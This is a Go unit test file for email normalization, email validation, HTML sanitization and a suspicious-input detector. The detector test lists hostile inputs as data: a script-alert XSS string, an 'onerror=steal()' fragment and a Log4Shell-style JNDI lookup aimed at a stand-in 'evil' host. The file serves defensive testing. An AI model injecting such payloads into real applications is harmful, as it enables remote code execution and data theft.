package util

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestNormalizeRecipient(t *testing.T) {
	cases := []struct {
		input    string
		expected string
	}{
		{"user@example.com", "user@example.com"},
		{"  user@example.com  ", "user@example.com"},
		{"User@Example.COM", "user@example.com"},
		{"\tMixed.Case@Domain.Org\n", "mixed.case@domain.org"},
		{"", ""},
		{"   ", ""},
	}

	for _, tc := range cases {
		assert.Equal(t, tc.expected, NormalizeRecipient(tc.input), "input %q", tc.input)
	}
}

func TestIsPlausibleEmail(t *testing.T) {
	valid := []string{
		"a@b",
		"user@example.com",
		"first.last+tag@sub.domain.org",
	}
	for _, s := range valid {
		assert.True(t, IsPlausibleEmail(s), "expected %q to pass", s)
	}

	invalid := []string{
		"",
		"a@",
		"@b",
		"@",
		"no-at-sign",
		"two@@example.com",
		"a@b@c",
		"has space@example.com",
		"tab\t@example.com",
		strings.Repeat("a", 250) + "@x.com",
	}
	for _, s := range invalid {
		assert.False(t, IsPlausibleEmail(s), "expected %q to fail", s)
	}
}

func TestSanitizeInput(t *testing.T) {
	assert.Equal(t, "hello", SanitizeInput("  hello  "))
	assert.Equal(t, "&lt;b&gt;bold&lt;/b&gt;", SanitizeInput("<b>bold</b>"))
}

func TestContainsSuspicious(t *testing.T) {
	assert.True(t, ContainsSuspicious("<script>alert(1)</script>"))
	assert.True(t, ContainsSuspicious("IMG onerror=steal()"))
	assert.True(t, ContainsSuspicious("${jndi:ldap://evil}"))
	assert.False(t, ContainsSuspicious("We need a letter of credit for a shipment."))
}
